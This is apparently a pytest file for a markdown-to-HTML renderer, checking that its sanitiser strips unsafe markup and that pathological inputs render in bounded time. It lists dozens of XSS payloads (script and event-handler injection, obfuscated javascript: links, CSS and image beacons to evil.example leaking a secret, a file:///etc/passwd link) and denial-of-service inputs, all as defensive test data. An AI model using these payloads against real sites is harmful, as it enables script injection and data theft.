"""Whole texts: what reads well, what must never reach a browser, and what must not take long."""

import re
import time
from html.parser import HTMLParser

import pytest

from agentweb.render import RENDERER_VERSION, document, html
from agentweb.render.sanitize import TAGS


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html(text))
    return parser.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example)">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "[x](file:///etc/passwd)",
    "[x](https://a.example/\"onmouseover=alert(1)//)",
    '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]: data:text/html,x\n\n[r]",
    "![x](https://evil.example/p.png?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "![r]\n\n[r]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](https://a.example)",
    "| ![x](https://evil.example/p.png) |\n|---|\n| ![y](https://evil.example/q.png) |",
    "- ![x](//evil.example/p.png)",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```py onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script\x00>alert(1)</script>",
    "a\ud800<b onclick=alert(1)>",
    "{style=color:red} {: .x onclick=alert(1)}",
]  # fmt: skip

ATTRIBUTES = {"href", "title", "rel", "dir", "class", "tabindex", "start"}
CLASS = re.compile(r"language-[\w+#.-]+|align-(left|center|right)|table-scroll|plain|[a-z][a-z0-9]{0,2}")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_only_harmless_elements(text: str) -> None:
    for tag, attributes in elements(text):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert all(CLASS.fullmatch(word) for word in (attributes.get("class") or "").split())
        assert re.match(r"(https?://|mailto:|$)", attributes.get("href") or "")


@pytest.mark.parametrize("text", HOSTILE)
def test_links_open_no_way_back(text: str) -> None:
    for tag, attributes in elements(text):
        assert tag != "a" or attributes["rel"] == "noopener noreferrer nofollow"


def test_raw_html_is_shown_as_text() -> None:
    assert html("<b>x</b>") == '<p dir="auto">&lt;b&gt;x&lt;/b&gt;</p>'


def test_a_link_that_is_not_allowed_is_shown_as_written() -> None:
    assert html("[x](javascript:alert(1))") == '<p dir="auto">[x](javascript:alert(1))</p>'


LINK = 'rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        ("![a cat](https://example.org/c.png)", f'<a href="https://example.org/c.png" {LINK}>a cat (example.org)</a>'),
        ("![](https://u:p@example.org:8/c.png)", f'<a href="https://u:p@example.org:8/c.png" {LINK}>(example.org)</a>'),
        ("[![cat](http://i.org/c)](http://b.org)", f'<a href="http://b.org" {LINK}>cat (i.org)</a>'),
        ("![a *b* ![c](http://d.org)](http://e.org)", f'<a href="http://e.org" {LINK}>a b c (e.org)</a>'),
        ("![x](mailto:a@b.org)", "x"),
    ],
)
def test_a_picture_becomes_a_link_that_names_its_host(text: str, inner: str) -> None:
    assert html(text) == f'<p dir="auto">{inner}</p>'


def test_table_columns_are_aligned_by_class_and_the_table_may_scroll() -> None:
    assert html("|a|b|c|d|\n|:-|:-:|-:|-|\n|1|2|3|4|") == (
        '<div class="table-scroll" tabindex="0" dir="auto"><table><thead><tr><th class="align-left">a</th>'
        '<th class="align-center">b</th><th class="align-right">c</th><th>d</th></tr></thead><tbody><tr>'
        '<td class="align-left">1</td><td class="align-center">2</td><td class="align-right">3</td><td>4</td>'
        "</tr></tbody></table></div>"
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", ""),
        (" \n\t\n", ""),
        ("**粗体**和文字。\n第二行", '<p dir="auto"><strong>粗体</strong>和文字。\n第二行</p>'),
        ("مرحبا *بك*", '<p dir="auto">مرحبا <em>بك</em></p>'),
        ("~~old~~", '<p dir="auto"><s>old</s></p>'),
        ("3. x\n4. y", '<ol start="3" dir="auto"><li>x</li><li>y</li></ol>'),
        ("> q", '<blockquote dir="auto"><p>q</p></blockquote>'),
        ("a  \nb", '<p dir="auto">a<br>b</p>'),
        ("one\r\ntwo\rthree", '<p dir="auto">one\ntwo\nthree</p>'),
        ("T\n===", '<h1 dir="auto">T</h1>'),
        ("---", "<hr>"),
        ("```\n<a>\n```", '<pre dir="ltr" tabindex="0"><code>&lt;a&gt;\n</code></pre>'),
        ("```nosuch\nx\n```", '<pre dir="ltr" tabindex="0"><code class="language-nosuch">x\n</code></pre>'),
        ("```a&quot;b\nx\n```", '<pre dir="ltr" tabindex="0"><code>x\n</code></pre>'),
    ],
)
def test_texts_read_as_written(text: str, expected: str) -> None:
    assert html(text) == expected


def test_known_languages_get_classes_and_code_reads_left_to_right() -> None:
    (block,) = document("```python\nreturn 1\n```")
    assert block.html.startswith('<pre dir="ltr" tabindex="0"><code class="language-python"><span class="k">return')


@pytest.mark.parametrize("code", ["x = 1\n" * 10_000, "x" * 3_000])
def test_very_long_code_stays_without_colours(code: str) -> None:
    assert "<span" not in html(f"```python\n{code}\n```")


@pytest.mark.parametrize("language", ["c#", "java", "hcl", "makefile", "c++", "html", "typescript"])
@pytest.mark.parametrize("unit", ["a ", "a.", "{", "(", "<!--", "\t "])
def test_code_made_to_keep_a_lexer_busy_does_not(language: str, unit: str) -> None:
    line = (unit * 500)[:490] + "\n"
    begun = time.thread_time()
    document(f"```{language}\n{line * 20}```\n\n```{language}\n{line * 8}```")
    assert time.thread_time() - begun < 3.0


def test_text_that_is_nested_too_deep_is_kept_as_lines() -> None:
    depth = 1_000
    shown = html("\n".join("  " * level + f"- item{level}" for level in range(depth)))
    assert all(f"item{level}" in shown for level in (0, 5, 100, depth - 1))
    assert shown.count("<ul") < 20


def test_one_line_of_markers_is_no_tower() -> None:
    assert html("> " * 5_000 + "end").count("<blockquote") <= 32


def test_a_wide_head_does_not_multiply_short_rows() -> None:
    text = "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "x\n" * 2_000
    assert len(html(text)) < 100 * len(text)


def test_a_long_address_used_often_does_not_multiply_the_text() -> None:
    text = f"[a]: http://b.example/{'x' * 1_900}\n\n" + "[a]\n\n" * 10_000
    assert len(html(text)) < 12_000_000


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        "![" * 50_000,
        "[" * 30_000 + "a" + "]" * 30_000,
        "[a](" * 25_000,
        ("[" * 16 + "\n\n") * 2_000,
        "*a_ " * 25_000,
        "*" * 50_000 + "a" + "*" * 50_000,
        "".join("e" + "`" * count for count in range(400)),
        "<a@b." * 20_000,
        "&a" * 50_000,
        ">" * 100_000,
        "- " * 50_000,
        "> - " * 25_000,
        "[a]:\n" * 20_000,
        "".join(f"[a{number}]: b\n" for number in range(9_000)),
        "|a" * 10_000 + "|\n" + "|-" * 10_000 + "|\n",
        "| 1 | 2 |\n" * 10_000,
        "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000,
        ("|" + "a|" * 8 + "\n|" + "-|" * 8 + "\n" + "x\n" * 30) * 200,
        "x" * 300_000,
        "word " * 50_000,
        "```\n" * 25_000,
        "```python\n" + "(" * 1_900 + "\n" + "'\\" * 900,
        "```\n" + "x\n" * 150_000,
        "\n" * 300_000,
        "\t" * 100_000,
    ],
    ids=lambda text: f"{text[:12]!r}x{len(text)}",
)
def test_hostile_length_takes_time_in_proportion(text: str) -> None:
    begun = time.thread_time()
    blocks = document(text)
    spent = time.thread_time() - begun
    assert spent < 1.0 + len(text) * 40e-6, f"{spent:.2f} s"
    assert sum(len(block.html) for block in blocks) < 1_000 + 40 * len(text)


def test_the_version_is_a_number_to_compare() -> None:
    assert RENDERER_VERSION >= 1
